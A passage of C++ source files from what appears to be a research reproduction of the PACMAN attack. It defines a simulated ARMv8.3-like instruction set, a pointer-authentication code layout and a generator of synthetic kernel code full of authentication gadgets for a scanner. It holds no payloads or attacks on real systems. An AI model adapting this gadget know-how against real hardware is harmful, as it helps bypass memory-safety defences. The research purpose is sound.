                           const asmjit::Program &prog);

} // namespace pacman::analysis

#endif // PACMAN_ANALYSIS_SCANNER_HH
