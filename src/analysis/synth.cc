#include "synth.hh"

#include "asm/assembler.hh"
#include "base/stats.hh"

namespace pacman::analysis
{

using asmjit::Assembler;
using namespace pacman::isa;

namespace
{

/** A random allocatable register x0..x15 (x16+ reserved by ABI). */
RegIndex
randReg(Random &rng)
{
    return RegIndex(rng.next(16));
}

/** Emit a few ALU/memory filler instructions. */
void
emitFiller(Assembler &a, Random &rng, unsigned count)
{
    for (unsigned i = 0; i < count; ++i) {
        switch (rng.next(6)) {
          case 0:
            a.add(randReg(rng), randReg(rng), randReg(rng));
            break;
          case 1:
            a.addi(randReg(rng), randReg(rng), int64_t(rng.next(256)));
            break;
          case 2:
            a.eor(randReg(rng), randReg(rng), randReg(rng));
            break;
          case 3:
            a.ldr(randReg(rng), randReg(rng),
                  int64_t(rng.next(64)) * 8);
            break;
          case 4:
            a.str(randReg(rng), randReg(rng),
                  int64_t(rng.next(64)) * 8);
            break;
          default:
            a.movz(randReg(rng), uint16_t(rng.next(0x10000)));
            break;
        }
    }
}

/** Emit a C++-style authenticated method dispatch. */
void
emitDispatch(Assembler &a, Random &rng)
{
    const RegIndex obj = randReg(rng);
    const RegIndex vtab = randReg(rng);
    const RegIndex fp = randReg(rng);
    a.ldr(vtab, obj, 0);
    a.autda(vtab, obj);
    a.ldr(fp, vtab, int64_t(rng.next(16)) * 8);
    a.autia(fp, obj);
    a.blr(fp);
}

/** Emit an authenticated data-pointer dereference. */
void
emitDataAuth(Assembler &a, Random &rng)
{
    const RegIndex ptr = randReg(rng);
    const RegIndex mod = randReg(rng);
    const RegIndex dst = randReg(rng);
    a.autda(ptr, mod);
    a.ldr(dst, ptr, int64_t(rng.next(8)) * 8);
}

} // anonymous namespace

asmjit::Program
generateSyntheticKernel(const SynthConfig &cfg, isa::Addr base)
{
    Random rng(cfg.seed);
    Assembler a(base);

    for (unsigned fn = 0; fn < cfg.numFunctions; ++fn) {
        a.label(strprintf("fn_%u", fn));

        // PA-protected prologue (paper Figure 2(a)).
        a.pacia(LR, SP);
        a.subi(SP, SP, 0x40);
        a.str(LR, SP, 0x30);

        const unsigned blocks =
            cfg.minBodyBlocks +
            unsigned(rng.next(cfg.maxBodyBlocks - cfg.minBodyBlocks + 1));
        for (unsigned blk = 0; blk < blocks; ++blk) {
            // Guarding conditional branch over the block, as compilers
            // emit for if/else and error paths.
            const std::string skip =
                strprintf("fn_%u_skip_%u", fn, blk);
            a.cmpi(randReg(rng), int64_t(rng.next(32)));
            a.bcond(rng.chance(0.5) ? Cond::EQ : Cond::NE, skip);

            const double roll = rng.nextDouble();
            if (roll < cfg.dispatchProbability) {
                emitFiller(a, rng, unsigned(rng.next(3)));
                emitDispatch(a, rng);
            } else if (roll <
                       cfg.dispatchProbability + cfg.dataAuthProbability) {
                emitFiller(a, rng, unsigned(rng.next(3)));
                emitDataAuth(a, rng);
            } else {
                emitFiller(a, rng, 4 + unsigned(rng.next(12)));
            }
            a.label(skip);
            emitFiller(a, rng, 1 + unsigned(rng.next(3)));
        }

        // PA-protected epilogue (paper Figure 2(b)).
        a.ldr(LR, SP, 0x30);
        a.addi(SP, SP, 0x40);
        a.autia(LR, SP);
        a.ret();
    }

    return a.finalize();
}

} // namespace pacman::analysis
