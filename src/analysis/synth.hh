/**
 * @file
 * Synthetic kernel-scale binary generator.
 *
 * The paper scans the real XNU 12.2.1 kernel (Section 4.3); no Mach-O
 * is available here, so this generator emits a PARM64 binary with the
 * code patterns a PA-hardened kernel actually contains:
 *
 *  - functions with PA-protected prologues/epilogues
 *    (pacia lr, sp ... autia lr, sp; ret),
 *  - C++-style method dispatch (autda vtable; load entry; autia; blr),
 *  - authenticated data-pointer dereferences (autda; ldr),
 *  - ordinary ALU/memory/conditional-branch filler.
 *
 * The absolute gadget counts depend on corpus size; the scanner's
 * qualitative findings (gadgets everywhere, instruction-heavy mix,
 * short branch-to-transmit distances) are what the bench compares.
 */

#ifndef PACMAN_ANALYSIS_SYNTH_HH
#define PACMAN_ANALYSIS_SYNTH_HH

#include <cstdint>

#include "asm/program.hh"
#include "base/random.hh"

namespace pacman::analysis
{

/** Generation knobs. */
struct SynthConfig
{
    uint64_t seed = 7;
    unsigned numFunctions = 9500; //!< default lands near the paper's
                                  //!< XNU 12.2.1 gadget counts
    unsigned minBodyBlocks = 1;   //!< blocks per function body
    unsigned maxBodyBlocks = 6;
    double dispatchProbability = 0.08; //!< vtable-dispatch block odds
    double dataAuthProbability = 0.04; //!< autda+ldr block odds
};

/** Generate the synthetic kernel image at @p base. */
asmjit::Program generateSyntheticKernel(const SynthConfig &cfg,
                                        isa::Addr base);

} // namespace pacman::analysis

#endif // PACMAN_ANALYSIS_SYNTH_HH
