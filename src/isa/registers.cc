#include "registers.hh"

#include <algorithm>
#include <cctype>

#include "base/logging.hh"
#include "base/stats.hh"

namespace pacman::isa
{

std::string
regName(RegIndex reg)
{
    PACMAN_ASSERT(reg < NumRegs, "register index %u out of range", reg);
    if (reg == SP)
        return "sp";
    return strprintf("x%u", reg);
}

int
parseRegName(const std::string &name)
{
    std::string low(name);
    std::transform(low.begin(), low.end(), low.begin(),
                   [](unsigned char ch) { return std::tolower(ch); });

    if (low == "sp")
        return SP;
    if (low == "fp")
        return FP;
    if (low == "lr")
        return LR;
    if (low.size() >= 2 && low[0] == 'x') {
        int val = 0;
        for (size_t i = 1; i < low.size(); ++i) {
            if (!std::isdigit(static_cast<unsigned char>(low[i])))
                return -1;
            val = val * 10 + (low[i] - '0');
        }
        if (val <= 30)
            return val;
    }
    return -1;
}

} // namespace pacman::isa
