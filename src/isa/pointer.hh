/**
 * @file
 * Virtual-address and PAC bit layout for the modelled platform.
 *
 * The platform matches the paper's macOS 12.2.1 / M1 configuration:
 * 48-bit virtual addresses, 16 KB pages, and 16-bit PACs stored in the
 * unused upper pointer bits.
 *
 * Layout of a 64-bit pointer:
 *
 *   63            48 47                                0
 *  +----------------+----------------------------------+
 *  | extension/PAC  |        48-bit virtual address    |
 *  +----------------+----------------------------------+
 *
 * A *canonical* pointer carries the sign-extension of VA bit 47 in the
 * extension field: 0x0000 for user pointers (bit 47 = 0) and 0xFFFF
 * for kernel pointers (bit 47 = 1). Signing replaces the extension
 * with the PAC; a failed authentication writes a *poison* extension
 * (canonical value with two flipped bits, echoing ARM's error-code
 * scheme), which is guaranteed non-canonical so any dereference raises
 * a translation fault.
 */

#ifndef PACMAN_ISA_POINTER_HH
#define PACMAN_ISA_POINTER_HH

#include <cstdint>

#include "crypto/pac.hh"

namespace pacman::isa
{

/** Virtual / physical address types. */
using Addr = uint64_t;

constexpr unsigned VaBits = 48;
constexpr unsigned PacBits = 64 - VaBits; // 16, as measured in the paper
constexpr unsigned PageShift = 14;        // 16 KB pages
constexpr uint64_t PageSize = 1ull << PageShift;
constexpr uint64_t PageMask = PageSize - 1;

/** The 48-bit virtual-address part of @p ptr. */
constexpr Addr
vaPart(uint64_t ptr)
{
    return ptr & ((1ull << VaBits) - 1);
}

/** The 16-bit extension (PAC field) of @p ptr. */
constexpr uint16_t
extPart(uint64_t ptr)
{
    return uint16_t(ptr >> VaBits);
}

/** True if VA bit 47 indicates a kernel (upper-half) address. */
constexpr bool
isKernelVa(uint64_t ptr)
{
    return (ptr >> (VaBits - 1)) & 1;
}

/** Canonical extension for the half @p ptr's VA lives in. */
constexpr uint16_t
canonicalExt(uint64_t ptr)
{
    return isKernelVa(ptr) ? 0xFFFF : 0x0000;
}

/** @p ptr with its extension replaced by @p ext. */
constexpr uint64_t
withExt(uint64_t ptr, uint16_t ext)
{
    return vaPart(ptr) | (uint64_t(ext) << VaBits);
}

/** @p ptr with the canonical extension (i.e. PAC stripped; XPAC). */
constexpr uint64_t
stripPac(uint64_t ptr)
{
    return withExt(ptr, canonicalExt(ptr));
}

/** True if @p ptr carries its canonical extension. */
constexpr bool
isCanonical(uint64_t ptr)
{
    return extPart(ptr) == canonicalExt(ptr);
}

/**
 * Poison extension for authentication failures: the canonical value
 * with bits 0 and 1 of the extension flipped (never canonical, and
 * distinguishable from a wrong-PAC signed pointer in traces).
 */
constexpr uint16_t
poisonExt(uint64_t ptr)
{
    return canonicalExt(ptr) ^ 0x0003;
}

/** Page number / page offset helpers. */
constexpr uint64_t
pageNumber(Addr va)
{
    return va >> PageShift;
}

constexpr uint64_t
pageOffset(Addr va)
{
    return va & PageMask;
}

/**
 * Sign @p ptr: compute the PAC of the canonicalized pointer under
 * @p modifier and @p key and insert it in the extension field.
 *
 * Mirrors the pac* instructions: if the pointer is not canonical on
 * entry (already signed), hardware would corrupt the PAC; we model the
 * common case and sign the canonicalized value.
 */
uint64_t signPointer(uint64_t ptr, uint64_t modifier,
                     const crypto::PacKey &key);

/**
 * Authenticate @p ptr: recompute the PAC and compare with the
 * extension field.
 *
 * @return the canonical pointer on success, the poisoned pointer on
 *         failure (exactly the aut* instruction contract: failures do
 *         not fault here; the fault happens on dereference).
 */
uint64_t authPointer(uint64_t ptr, uint64_t modifier,
                     const crypto::PacKey &key);

} // namespace pacman::isa

#endif // PACMAN_ISA_POINTER_HH
