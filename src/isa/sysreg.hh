/**
 * @file
 * PARM64 system registers, accessed via MRS/MSR.
 *
 * The set mirrors the registers the paper interacts with on the M1:
 * the generic timer, Apple's proprietary performance counters, the
 * pointer-authentication key registers, cache-geometry identification
 * registers, and the current exception level.
 */

#ifndef PACMAN_ISA_SYSREG_HH
#define PACMAN_ISA_SYSREG_HH

#include <cstdint>
#include <string>

namespace pacman::isa
{

/**
 * System register identifiers. The numeric values are the 10-bit field
 * stored in MRS/MSR encodings.
 */
enum class SysReg : uint16_t
{
    // Generic timer (shared across cores, EL0-accessible by default).
    CNTPCT_EL0 = 0,    //!< 24 MHz system counter
    CNTFRQ_EL0 = 1,    //!< counter frequency (Hz)

    // Apple proprietary performance counters (S3_2_c15_cN_0 on M1).
    PMC0 = 2,          //!< cycle counter; EL1 unless PMCR0 grants EL0
    PMC1 = 3,          //!< instruction counter; same gating
    PMCR0 = 4,         //!< counter control; bit 30 grants EL0 access

    // Current exception level, bits [3:2] as on aarch64.
    CURRENT_EL = 5,

    // Pointer authentication keys (EL1-only, like APxxKey_EL1).
    APIAKEY_LO = 16, APIAKEY_HI = 17,
    APIBKEY_LO = 18, APIBKEY_HI = 19,
    APDAKEY_LO = 20, APDAKEY_HI = 21,
    APDBKEY_LO = 22, APDBKEY_HI = 23,
    APGAKEY_LO = 24, APGAKEY_HI = 25,

    // Cache identification (CLIDR/CSSELR/CCSIDR-style, EL1-only).
    CLIDR_EL1 = 32,    //!< cache level id: which levels exist
    CSSELR_EL1 = 33,   //!< cache size selection (level | I/D bit)
    CCSIDR_EL1 = 34,   //!< geometry of the selected cache

    // Translation control (modelled coarsely; EL1-only).
    TTBR0_EL1 = 40,    //!< user address-space root
    TTBR1_EL1 = 41,    //!< kernel address-space root

    // Exception handling (EL1-only).
    ELR_EL1 = 42,      //!< exception link register
    VBAR_EL1 = 43,     //!< exception vector base (syscall entry)
    ESR_EL1 = 44,      //!< exception syndrome (svc immediate)

    NumSysRegs = 48,
};

/**
 * PMCR0 control bits (subset of Apple's register that the paper's kext
 * manipulates).
 */
enum PmcrBits : uint64_t
{
    PMCR0_ENABLE = 1ull << 0,       //!< counters run
    PMCR0_EL0_ACCESS = 1ull << 30,  //!< PMC0/PMC1 readable from EL0
};

/** Assembly name of a system register ("cntpct_el0", ...). */
std::string sysRegName(SysReg reg);

/** Parse a system register name; returns -1 if unknown. */
int parseSysRegName(const std::string &name);

/**
 * True if @p reg may be read at EL0 regardless of configuration
 * (only the generic timer qualifies, as on M1).
 */
bool sysRegEl0Readable(SysReg reg);

} // namespace pacman::isa

#endif // PACMAN_ISA_SYSREG_HH
