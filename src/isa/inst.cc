#include "inst.hh"

#include <algorithm>
#include <cctype>

#include "base/logging.hh"

namespace pacman::isa
{

bool
condHolds(Cond cond, const Pstate &f)
{
    switch (cond) {
      case Cond::EQ: return f.z;
      case Cond::NE: return !f.z;
      case Cond::CS: return f.c;
      case Cond::CC: return !f.c;
      case Cond::MI: return f.n;
      case Cond::PL: return !f.n;
      case Cond::VS: return f.v;
      case Cond::VC: return !f.v;
      case Cond::HI: return f.c && !f.z;
      case Cond::LS: return !f.c || f.z;
      case Cond::GE: return f.n == f.v;
      case Cond::LT: return f.n != f.v;
      case Cond::GT: return !f.z && f.n == f.v;
      case Cond::LE: return f.z || f.n != f.v;
      case Cond::AL: return true;
      default: panic("condHolds: bad condition %u", unsigned(cond));
    }
}

std::string
condName(Cond cond)
{
    static const char *names[] = {
        "eq", "ne", "cs", "cc", "mi", "pl", "vs", "vc",
        "hi", "ls", "ge", "lt", "gt", "le", "al",
    };
    const auto idx = unsigned(cond);
    PACMAN_ASSERT(idx < 15, "bad condition code %u", idx);
    return names[idx];
}

std::optional<Cond>
parseCondName(const std::string &name)
{
    std::string low(name);
    std::transform(low.begin(), low.end(), low.begin(),
                   [](unsigned char ch) { return std::tolower(ch); });
    for (unsigned i = 0; i < 15; ++i) {
        if (low == condName(Cond(i)))
            return Cond(i);
    }
    return std::nullopt;
}

std::string
opcodeName(Opcode op)
{
    switch (op) {
      case Opcode::ADD: return "add";
      case Opcode::SUB: return "sub";
      case Opcode::AND: return "and";
      case Opcode::ORR: return "orr";
      case Opcode::EOR: return "eor";
      case Opcode::LSLV: return "lslv";
      case Opcode::LSRV: return "lsrv";
      case Opcode::ASRV: return "asrv";
      case Opcode::MUL: return "mul";
      case Opcode::SUBS: return "subs";
      case Opcode::ADDS: return "adds";
      case Opcode::CMP: return "cmp";
      case Opcode::MOVR: return "mov";
      case Opcode::ADDI: return "addi";
      case Opcode::SUBI: return "subi";
      case Opcode::ANDI: return "andi";
      case Opcode::ORRI: return "orri";
      case Opcode::EORI: return "eori";
      case Opcode::LSLI: return "lsli";
      case Opcode::LSRI: return "lsri";
      case Opcode::ASRI: return "asri";
      case Opcode::SUBSI: return "subsi";
      case Opcode::CMPI: return "cmpi";
      case Opcode::MOVZ: return "movz";
      case Opcode::MOVK: return "movk";
      case Opcode::LDR: return "ldr";
      case Opcode::STR: return "str";
      case Opcode::LDRB: return "ldrb";
      case Opcode::STRB: return "strb";
      case Opcode::LDRR: return "ldrr";
      case Opcode::STRR: return "strr";
      case Opcode::B: return "b";
      case Opcode::BL: return "bl";
      case Opcode::BCOND: return "b.cond";
      case Opcode::CBZ: return "cbz";
      case Opcode::CBNZ: return "cbnz";
      case Opcode::BR: return "br";
      case Opcode::BLR: return "blr";
      case Opcode::RET: return "ret";
      case Opcode::BRAA: return "braa";
      case Opcode::BLRAA: return "blraa";
      case Opcode::RETAA: return "retaa";
      case Opcode::PACIA: return "pacia";
      case Opcode::PACIB: return "pacib";
      case Opcode::PACDA: return "pacda";
      case Opcode::PACDB: return "pacdb";
      case Opcode::AUTIA: return "autia";
      case Opcode::AUTIB: return "autib";
      case Opcode::AUTDA: return "autda";
      case Opcode::AUTDB: return "autdb";
      case Opcode::XPAC: return "xpac";
      case Opcode::MRS: return "mrs";
      case Opcode::MSR: return "msr";
      case Opcode::SVC: return "svc";
      case Opcode::ERET: return "eret";
      case Opcode::ISB: return "isb";
      case Opcode::DSB: return "dsb";
      case Opcode::NOP: return "nop";
      case Opcode::HLT: return "hlt";
      case Opcode::BRK: return "brk";
      default: return "?unk?";
    }
}

InstClass
instClass(Opcode op)
{
    switch (op) {
      case Opcode::LDR:
      case Opcode::LDRB:
      case Opcode::LDRR:
        return InstClass::Load;
      case Opcode::STR:
      case Opcode::STRB:
      case Opcode::STRR:
        return InstClass::Store;
      case Opcode::B:
      case Opcode::BL:
        return InstClass::BranchDirect;
      case Opcode::BCOND:
      case Opcode::CBZ:
      case Opcode::CBNZ:
        return InstClass::BranchCond;
      case Opcode::BR:
      case Opcode::BLR:
      case Opcode::RET:
      case Opcode::BRAA:
      case Opcode::BLRAA:
      case Opcode::RETAA:
        return InstClass::BranchIndirect;
      case Opcode::PACIA:
      case Opcode::PACIB:
      case Opcode::PACDA:
      case Opcode::PACDB:
        return InstClass::PacSign;
      case Opcode::AUTIA:
      case Opcode::AUTIB:
      case Opcode::AUTDA:
      case Opcode::AUTDB:
      case Opcode::XPAC:
        return InstClass::PacAuth;
      case Opcode::MRS:
      case Opcode::MSR:
      case Opcode::SVC:
      case Opcode::ERET:
      case Opcode::HLT:
      case Opcode::BRK:
        return InstClass::System;
      case Opcode::ISB:
      case Opcode::DSB:
        return InstClass::Barrier;
      default:
        return InstClass::Alu;
    }
}

bool
isMemOp(Opcode op)
{
    const InstClass c = instClass(op);
    return c == InstClass::Load || c == InstClass::Store;
}

bool
isBranch(Opcode op)
{
    const InstClass c = instClass(op);
    return c == InstClass::BranchDirect || c == InstClass::BranchCond ||
           c == InstClass::BranchIndirect;
}

bool
isCondBranch(Opcode op)
{
    return instClass(op) == InstClass::BranchCond;
}

bool
isIndirectBranch(Opcode op)
{
    return instClass(op) == InstClass::BranchIndirect;
}

bool
isAuthBranch(Opcode op)
{
    return op == Opcode::BRAA || op == Opcode::BLRAA ||
           op == Opcode::RETAA;
}

bool
isPacSign(Opcode op)
{
    return instClass(op) == InstClass::PacSign;
}

bool
isPacAuth(Opcode op)
{
    return instClass(op) == InstClass::PacAuth && op != Opcode::XPAC;
}

crypto::PacKeySelect
pacKeyOf(Opcode op)
{
    switch (op) {
      case Opcode::PACIA:
      case Opcode::AUTIA:
        return crypto::PacKeySelect::IA;
      case Opcode::PACIB:
      case Opcode::AUTIB:
        return crypto::PacKeySelect::IB;
      case Opcode::PACDA:
      case Opcode::AUTDA:
        return crypto::PacKeySelect::DA;
      case Opcode::PACDB:
      case Opcode::AUTDB:
        return crypto::PacKeySelect::DB;
      case Opcode::BRAA:
      case Opcode::BLRAA:
      case Opcode::RETAA:
        return crypto::PacKeySelect::IA;
      default:
        panic("pacKeyOf: %s is not a keyed PA opcode",
              opcodeName(op).c_str());
    }
}

bool
writesRd(const Inst &inst)
{
    switch (inst.op) {
      case Opcode::CMP:
      case Opcode::CMPI:
      case Opcode::STR:
      case Opcode::STRB:
      case Opcode::STRR:
      case Opcode::B:
      case Opcode::BCOND:
      case Opcode::CBZ:
      case Opcode::CBNZ:
      case Opcode::BR:
      case Opcode::RET:
      case Opcode::BRAA:
      case Opcode::RETAA:
      case Opcode::MSR:
      case Opcode::SVC:
      case Opcode::ERET:
      case Opcode::ISB:
      case Opcode::DSB:
      case Opcode::NOP:
      case Opcode::HLT:
      case Opcode::BRK:
        return false;
      case Opcode::BL:
      case Opcode::BLR:
      case Opcode::BLRAA:
        return true; // writes LR
      default:
        return true;
    }
}

bool
readsRn(const Inst &inst)
{
    switch (inst.op) {
      case Opcode::MOVZ:
      case Opcode::MOVK:
      case Opcode::B:
      case Opcode::BL:
      case Opcode::BCOND:
      case Opcode::SVC:
      case Opcode::ERET:
      case Opcode::ISB:
      case Opcode::DSB:
      case Opcode::NOP:
      case Opcode::HLT:
      case Opcode::BRK:
      case Opcode::MRS:
      case Opcode::CBZ:   // tests rd field
      case Opcode::CBNZ:
      case Opcode::XPAC:  // operates on rd in place
        return false;
      default:
        return true;
    }
}

bool
readsRm(const Inst &inst)
{
    switch (inst.op) {
      case Opcode::ADD:
      case Opcode::SUB:
      case Opcode::AND:
      case Opcode::ORR:
      case Opcode::EOR:
      case Opcode::LSLV:
      case Opcode::LSRV:
      case Opcode::ASRV:
      case Opcode::MUL:
      case Opcode::SUBS:
      case Opcode::ADDS:
      case Opcode::CMP:
      case Opcode::LDRR:
      case Opcode::STRR:
      case Opcode::BRAA:
      case Opcode::BLRAA:
      case Opcode::RETAA:
        return true;
      default:
        return false;
    }
}

bool
readsRdAsSource(const Inst &inst)
{
    switch (inst.op) {
      case Opcode::STR:
      case Opcode::STRB:
      case Opcode::STRR:  // store data register
      case Opcode::MOVK:  // read-modify-write of halfword
      case Opcode::CBZ:
      case Opcode::CBNZ:  // tested register lives in the rd field
      case Opcode::PACIA:
      case Opcode::PACIB:
      case Opcode::PACDA:
      case Opcode::PACDB:
      case Opcode::AUTIA:
      case Opcode::AUTIB:
      case Opcode::AUTDA:
      case Opcode::AUTDB:
      case Opcode::XPAC:  // pointer is modified in place
        return true;
      default:
        return false;
    }
}

} // namespace pacman::isa
