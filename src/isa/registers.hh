/**
 * @file
 * PARM64 general-purpose register definitions.
 *
 * PARM64 is the ARMv8.3-inspired ISA used throughout this reproduction.
 * There are 32 addressable integer registers: X0..X30 plus SP (register
 * index 31). X29 conventionally serves as the frame pointer and X30 as
 * the link register, mirroring AAPCS64.
 */

#ifndef PACMAN_ISA_REGISTERS_HH
#define PACMAN_ISA_REGISTERS_HH

#include <cstdint>
#include <string>

namespace pacman::isa
{

/** Register index type; valid values are 0..31. */
using RegIndex = uint8_t;

constexpr RegIndex NumRegs = 32;

/** Named register constants. */
enum : RegIndex
{
    X0 = 0, X1, X2, X3, X4, X5, X6, X7,
    X8, X9, X10, X11, X12, X13, X14, X15,
    X16, X17, X18, X19, X20, X21, X22, X23,
    X24, X25, X26, X27, X28, X29, X30,
    SP = 31,

    FP = X29, //!< frame pointer alias
    LR = X30, //!< link register alias
};

/** Render a register index as its assembly name ("x7", "sp", ...). */
std::string regName(RegIndex reg);

/**
 * Parse an assembly register name. Accepts "x0".."x30", "sp", "fp",
 * "lr" (case-insensitive).
 *
 * @return the register index, or -1 if @p name is not a register.
 */
int parseRegName(const std::string &name);

/** NZCV condition flags (PSTATE subset relevant to PARM64). */
struct Pstate
{
    bool n = false; //!< negative
    bool z = false; //!< zero
    bool c = false; //!< carry
    bool v = false; //!< overflow

    bool operator==(const Pstate &) const = default;
};

} // namespace pacman::isa

#endif // PACMAN_ISA_REGISTERS_HH
