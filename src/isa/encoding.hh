/**
 * @file
 * PARM64 binary encoding.
 *
 * Every instruction is one 32-bit word whose top byte is the opcode.
 * The remaining 24 bits are format-specific:
 *
 *   R (reg)      : rd[23:19] rn[18:14] rm[13:9]
 *   I (imm)      : rd[23:19] rn[18:14] imm14[13:0]   (signed)
 *   M (movz/movk): rd[23:19] hw[18:17] imm16[16:1]
 *   B (branch)   : imm24[23:0]                        (signed words)
 *   C (b.cond)   : cond[23:20] imm20[19:0]            (signed words)
 *   D (cbz/cbnz) : rt[23:19] imm19[18:0]              (signed words)
 *   S (mrs/msr)  : rd[23:19] sysreg[18:9]
 *   W (svc/hlt)  : imm16[15:0]
 *
 * Branch immediates in the decoded Inst are byte offsets (already
 * scaled); memory-offset immediates are byte offsets as encoded.
 */

#ifndef PACMAN_ISA_ENCODING_HH
#define PACMAN_ISA_ENCODING_HH

#include <optional>

#include "isa/inst.hh"

namespace pacman::isa
{

/**
 * Encode a decoded instruction.
 * Calls fatal() if an immediate does not fit its field — encoding
 * errors are programming errors in the code being assembled.
 */
InstWord encode(const Inst &inst);

/**
 * Decode one instruction word.
 * @return nullopt for an unknown opcode byte (the CPU raises an
 *         undefined-instruction exception; the scanner skips the word).
 */
std::optional<Inst> decode(InstWord word);

} // namespace pacman::isa

#endif // PACMAN_ISA_ENCODING_HH
