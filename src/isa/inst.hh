/**
 * @file
 * PARM64 instruction set: opcodes, condition codes, and the decoded
 * instruction representation shared by the assembler, the CPU model,
 * the disassembler, and the static gadget scanner.
 *
 * PARM64 is a fixed-width 32-bit encoding covering the ARMv8.3 subset
 * the PACMAN attack touches: integer ALU ops, loads/stores, direct and
 * indirect branches, the pac/aut pointer-authentication family,
 * system-register access, syscalls and barriers.
 */

#ifndef PACMAN_ISA_INST_HH
#define PACMAN_ISA_INST_HH

#include <cstdint>
#include <optional>
#include <string>

#include "crypto/pac.hh"
#include "isa/registers.hh"
#include "isa/sysreg.hh"

namespace pacman::isa
{

/** Encoded instruction word. */
using InstWord = uint32_t;

/** Instruction byte size (fixed-width ISA). */
constexpr unsigned InstBytes = 4;

/** ARM-style condition codes for B.cond. */
enum class Cond : uint8_t
{
    EQ = 0,  //!< Z
    NE = 1,  //!< !Z
    CS = 2,  //!< C
    CC = 3,  //!< !C
    MI = 4,  //!< N
    PL = 5,  //!< !N
    VS = 6,  //!< V
    VC = 7,  //!< !V
    HI = 8,  //!< C && !Z
    LS = 9,  //!< !C || Z
    GE = 10, //!< N == V
    LT = 11, //!< N != V
    GT = 12, //!< !Z && N == V
    LE = 13, //!< Z || N != V
    AL = 14, //!< always
};

/** Evaluate @p cond against PSTATE flags. */
bool condHolds(Cond cond, const Pstate &flags);

/** Condition mnemonic suffix ("eq", "ne", ...). */
std::string condName(Cond cond);

/** Parse a condition suffix; returns nullopt if unknown. */
std::optional<Cond> parseCondName(const std::string &name);

/**
 * Opcodes. The numeric value is the top byte of the encoding; gaps
 * leave room for growth without renumbering.
 */
enum class Opcode : uint8_t
{
    // --- ALU, register operands (R format: rd, rn, rm) ---
    ADD = 0x01,
    SUB = 0x02,
    AND = 0x03,
    ORR = 0x04,
    EOR = 0x05,
    LSLV = 0x06,
    LSRV = 0x07,
    ASRV = 0x08,
    MUL = 0x09,
    SUBS = 0x0A,   //!< sub, sets NZCV
    ADDS = 0x0B,   //!< add, sets NZCV
    CMP = 0x0C,    //!< SUBS discarding result (no rd write)
    MOVR = 0x0D,   //!< rd := rn

    // --- ALU, immediate (I format: rd, rn, imm14 signed) ---
    ADDI = 0x10,
    SUBI = 0x11,
    ANDI = 0x12,
    ORRI = 0x13,
    EORI = 0x14,
    LSLI = 0x15,
    LSRI = 0x16,
    ASRI = 0x17,
    SUBSI = 0x18,  //!< subi, sets NZCV
    CMPI = 0x19,   //!< SUBSI discarding result

    // --- Wide immediates (M format: rd, hw, imm16) ---
    MOVZ = 0x1C,   //!< rd := imm16 << (16*hw)
    MOVK = 0x1D,   //!< rd[16*hw +: 16] := imm16

    // --- Memory (I format: rt, [rn, #imm14]; R format for reg offset)
    LDR = 0x20,    //!< 64-bit load
    STR = 0x21,    //!< 64-bit store
    LDRB = 0x22,   //!< byte load (zero-extended)
    STRB = 0x23,   //!< byte store
    LDRR = 0x24,   //!< rt := [rn + rm]
    STRR = 0x25,   //!< [rn + rm] := rt

    // --- Direct branches ---
    B = 0x30,      //!< B format: imm24 word offset
    BL = 0x31,     //!< branch with link
    BCOND = 0x32,  //!< C format: cond, imm20 word offset
    CBZ = 0x33,    //!< D format: rt, imm19 word offset
    CBNZ = 0x34,

    // --- Indirect branches (R format, rn = target) ---
    BR = 0x38,
    BLR = 0x39,
    RET = 0x3A,    //!< rn defaults to LR

    // --- Combined authenticate-and-branch (ARMv8.3; rn = signed
    //     target, rm = modifier). A one-instruction verification +
    //     transmission pair. ---
    BRAA = 0x3C,
    BLRAA = 0x3D,
    RETAA = 0x3E,  //!< rn = LR, rm = SP by convention

    // --- Pointer authentication (R format: rd = pointer in/out,
    //     rn = modifier) ---
    PACIA = 0x40,
    PACIB = 0x41,
    PACDA = 0x42,
    PACDB = 0x43,
    AUTIA = 0x48,
    AUTIB = 0x49,
    AUTDA = 0x4A,
    AUTDB = 0x4B,
    XPAC = 0x4F,   //!< strip PAC, no authentication

    // --- System ---
    MRS = 0x50,    //!< S format: rd, sysreg
    MSR = 0x51,    //!< S format: rn(=rd field), sysreg
    SVC = 0x52,    //!< W format: imm16 syscall number
    ERET = 0x53,
    ISB = 0x54,
    DSB = 0x55,
    NOP = 0x56,
    HLT = 0x57,    //!< stop simulation, imm16 = exit code
    BRK = 0x58,    //!< breakpoint exception
};

/** Broad instruction classes used by the pipeline and the scanner. */
enum class InstClass : uint8_t
{
    Alu,
    Load,
    Store,
    BranchDirect,
    BranchCond,
    BranchIndirect,
    PacSign,
    PacAuth,
    System,
    Barrier,
};

/**
 * A decoded instruction. All fields are populated by the decoder;
 * unused fields are zero.
 */
struct Inst
{
    Opcode op = Opcode::NOP;
    RegIndex rd = 0;       //!< destination (or PAC pointer reg, or store data)
    RegIndex rn = 0;       //!< first source / base / modifier / target
    RegIndex rm = 0;       //!< second source / offset
    Cond cond = Cond::AL;  //!< for BCOND
    int64_t imm = 0;       //!< sign-extended immediate (byte offset for
                           //!< branches, already scaled)
    SysReg sysreg = SysReg::CNTPCT_EL0;
    uint8_t hw = 0;        //!< MOVZ/MOVK halfword selector

    bool operator==(const Inst &) const = default;
};

/** Mnemonic for an opcode ("add", "autia", ...). */
std::string opcodeName(Opcode op);

/** Classification used by the CPU pipeline and gadget scanner. */
InstClass instClass(Opcode op);

/** True for any load or store. */
bool isMemOp(Opcode op);

/** True for any branch (direct, conditional, indirect). */
bool isBranch(Opcode op);

/** True for BCOND / CBZ / CBNZ. */
bool isCondBranch(Opcode op);

/** True for BR / BLR / RET and the authenticating variants. */
bool isIndirectBranch(Opcode op);

/** True for BRAA / BLRAA / RETAA (authenticate-and-branch). */
bool isAuthBranch(Opcode op);

/** True for the pac* signing family. */
bool isPacSign(Opcode op);

/** True for the aut* family. */
bool isPacAuth(Opcode op);

/** Key selector used by a keyed pac/aut opcode. */
crypto::PacKeySelect pacKeyOf(Opcode op);

/** True if the instruction writes its rd field. */
bool writesRd(const Inst &inst);

/** True if the instruction reads its rn / rm / rd(as source) field. */
bool readsRn(const Inst &inst);
bool readsRm(const Inst &inst);
bool readsRdAsSource(const Inst &inst);

} // namespace pacman::isa

#endif // PACMAN_ISA_INST_HH
