#include "sysreg.hh"

#include <algorithm>
#include <cctype>
#include <utility>
#include <vector>

namespace pacman::isa
{

namespace
{

const std::vector<std::pair<SysReg, const char *>> &
sysRegTable()
{
    static const std::vector<std::pair<SysReg, const char *>> table = {
        {SysReg::CNTPCT_EL0, "cntpct_el0"},
        {SysReg::CNTFRQ_EL0, "cntfrq_el0"},
        {SysReg::PMC0, "pmc0"},
        {SysReg::PMC1, "pmc1"},
